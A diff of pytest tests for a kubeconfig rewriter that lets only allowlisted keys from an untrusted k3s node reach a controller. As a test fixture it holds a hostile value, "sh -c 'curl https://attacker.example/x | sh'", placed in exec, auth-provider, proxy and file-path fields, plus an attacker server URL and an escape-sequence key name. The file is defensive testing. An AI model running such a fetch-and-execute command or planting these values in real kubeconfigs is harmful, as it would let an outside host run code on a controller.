@@ -169,3 +169,144 @@ def test_malformed_kubeconfig_is_refused(config: Any, message: str) -> None:
 def test_bad_names_are_refused(member: Any, namespace: Any, message: str) -> None:
     with pytest.raises(KubeconfigError, match=message):
         rewrite_k3s_kubeconfig(k3s_yaml(), member, "192.0.2.10", namespace=namespace)
+
+
+# ---------------------------------------------------------------------------
+# The node is not trusted: only the allowlist reaches the controller.
+
+# A value that must never show in an error: what a hostile node would put in the file.
+HOSTILE = "sh -c 'curl https://attacker.example/x | sh' SECRET-MARKER"
+
+# Every key the controller must refuse, where the node may write it: code the controller would
+# run, TLS checks it would drop, a proxy it would talk through, files it would read, and the
+# extension points.
+REFUSED = [
+    (("users", 0, "user", "exec"), {"command": "sh", "args": ["-c", HOSTILE], "apiVersion": "v1"}),
+    (("users", 0, "user", "auth-provider"), {"name": "oidc", "config": {"cmd-path": HOSTILE}}),
+    (("clusters", 0, "cluster", "insecure-skip-tls-verify"), True),
+    (("clusters", 0, "cluster", "proxy-url"), f"http://{HOSTILE}"),
+    (("clusters", 0, "cluster", "tls-server-name"), HOSTILE),
+    (("clusters", 0, "cluster", "certificate-authority"), f"/etc/{HOSTILE}"),
+    (("users", 0, "user", "client-certificate"), f"/home/op/{HOSTILE}"),
+    (("users", 0, "user", "client-key"), f"/home/op/{HOSTILE}"),
+    (("users", 0, "user", "tokenFile"), f"/home/op/{HOSTILE}"),
+    (("users", 0, "user", "username"), HOSTILE),
+    (("users", 0, "user", "password"), HOSTILE),
+    (("users", 0, "user", "as"), HOSTILE),
+    (("clusters", 0, "cluster", "extensions"), [{"name": "x", "extension": HOSTILE}]),
+    (("users", 0, "user", "extensions"), [{"name": "x", "extension": HOSTILE}]),
+    (("contexts", 0, "context", "extensions"), [{"name": "x", "extension": HOSTILE}]),
+    (("extensions",), [{"name": "x", "extension": HOSTILE}]),
+    (("preferences", "colors"), True),
+    (("preferences", "extensions"), [{"name": "x", "extension": HOSTILE}]),
+    (("clusters", 0, "extra"), HOSTILE),
+    (("users", 0, "extra"), HOSTILE),
+    (("contexts", 0, "extra"), HOSTILE),
+]
+
+
+def _dotted(path: tuple[Any, ...]) -> str:
+    text = ""
+    for step in path:
+        text += f"[{step}]" if isinstance(step, int) else f".{step}" if text else step
+    return text
+
+
+@pytest.mark.parametrize(("path", "value"), REFUSED, ids=[_dotted(path) for path, _value in REFUSED])
+def test_every_key_outside_the_allowlist_is_refused_by_name(path: tuple[Any, ...], value: Any) -> None:
+    with pytest.raises(KubeconfigError) as info:
+        rewrite_k3s_kubeconfig(_with(path, value), "hetzner-gesis", "192.0.2.10")
+    message = str(info.value)
+    assert f"{_dotted(path)} is not allowed" in message
+    assert message.count("is not allowed") == 1
+    assert "SECRET-MARKER" not in message and "attacker" not in message
+    assert KEY not in message
+
+
+def test_every_refused_key_is_named_at_once() -> None:
+    config = k3s_yaml()
+    config["users"][0]["user"]["exec"] = {"command": "sh"}
+    config["clusters"][0]["cluster"]["insecure-skip-tls-verify"] = True
+    config["extensions"] = []
+    with pytest.raises(KubeconfigError) as info:
+        rewrite_k3s_kubeconfig(config, "hetzner-gesis", "192.0.2.10")
+    message = str(info.value)
+    for key in ("users[0].user.exec", "clusters[0].cluster.insecure-skip-tls-verify", "extensions"):
+        assert f"{key} is not allowed" in message
+
+
+def test_a_hostile_key_name_is_shown_shortened_and_escaped() -> None:
+    name = "\x1b[2J" + "x" * 200
+    with pytest.raises(KubeconfigError) as info:
+        rewrite_k3s_kubeconfig(_with(("users", 0, "user", name), 1), "hetzner-gesis", "192.0.2.10")
+    message = str(info.value)
+    assert "\x1b" not in message
+    assert "x" * 65 not in message
+    assert "users[0].user.'\\x1b[2J" in message
+
+
+def test_the_result_is_built_only_from_the_allowlist() -> None:
+    """The node's server, names and empty preferences never reach the controller's file."""
+    config = k3s_yaml()
+    config["clusters"][0]["cluster"]["server"] = "https://attacker.example:6443"
+    out = rewrite_k3s_kubeconfig(config, "hetzner-gesis", "192.0.2.10")
+    assert out["clusters"] == [
+        {
+            "name": "hetzner-gesis",
+            "cluster": {"server": "https://192.0.2.10:6443", "certificate-authority-data": CA},
+        }
+    ]
+    assert out["users"] == [
+        {"name": "hetzner-gesis", "user": {"client-certificate-data": CERT, "client-key-data": KEY}}
+    ]
+    assert "attacker" not in repr(out)
+
+
+def test_a_bearer_token_is_taken_instead_of_a_client_certificate() -> None:
+    config = k3s_yaml()
+    config["users"][0]["user"] = {"token": "K10abc::server:def"}
+    out = rewrite_k3s_kubeconfig(config, "hetzner-gesis", "192.0.2.10")
+    assert out["users"] == [{"name": "hetzner-gesis", "user": {"token": "K10abc::server:def"}}]
+
+
+@pytest.mark.parametrize(
+    ("user", "message"),
+    [
+        ({}, r"users\[0\].user must give client-certificate-data and client-key-data, or a token"),
+        ({"client-certificate-data": CERT}, "client-certificate-data and client-key-data together"),
+        ({"client-key-data": KEY}, "client-certificate-data and client-key-data together"),
+        (
+            {"client-certificate-data": CERT, "client-key-data": 5},
+            r"client-key-data must be base64 text, got int",
+        ),
+        (
+            {"client-certificate-data": CERT, "client-key-data": "not base64!"},
+            r"client-key-data must be base64 text",
+        ),
+        ({"token": "two\nlines"}, r"users\[0\].user.token must be one line of printable text"),
+        ({"token": ""}, r"users\[0\].user.token must be one line of printable text"),
+    ],
+)
+def test_the_user_must_carry_usable_credentials(user: dict[str, Any], message: str) -> None:
+    with pytest.raises(KubeconfigError, match=message) as info:
+        rewrite_k3s_kubeconfig(_with(("users", 0, "user"), user), "hetzner-gesis", "192.0.2.10")
+    assert KEY not in str(info.value) and "not base64!" not in str(info.value)
+
+
+@pytest.mark.parametrize("ca", [None, "", 7, "%%%"])
+def test_the_cluster_must_carry_its_ca_as_data(ca: Any) -> None:
+    config = k3s_yaml()
+    if ca is None:
+        del config["clusters"][0]["cluster"]["certificate-authority-data"]
+    else:
+        config["clusters"][0]["cluster"]["certificate-authority-data"] = ca
+    with pytest.raises(
+        KubeconfigError, match=r"clusters\[0\].cluster.certificate-authority-data must be base64"
+    ):
+        rewrite_k3s_kubeconfig(config, "hetzner-gesis", "192.0.2.10")
+
+
+@pytest.mark.parametrize("preferences", [None, {}])
+def test_empty_preferences_are_accepted(preferences: Any) -> None:
+    out = rewrite_k3s_kubeconfig(_with(("preferences",), preferences), "hetzner-gesis", "192.0.2.10")
+    assert out["preferences"] == {}
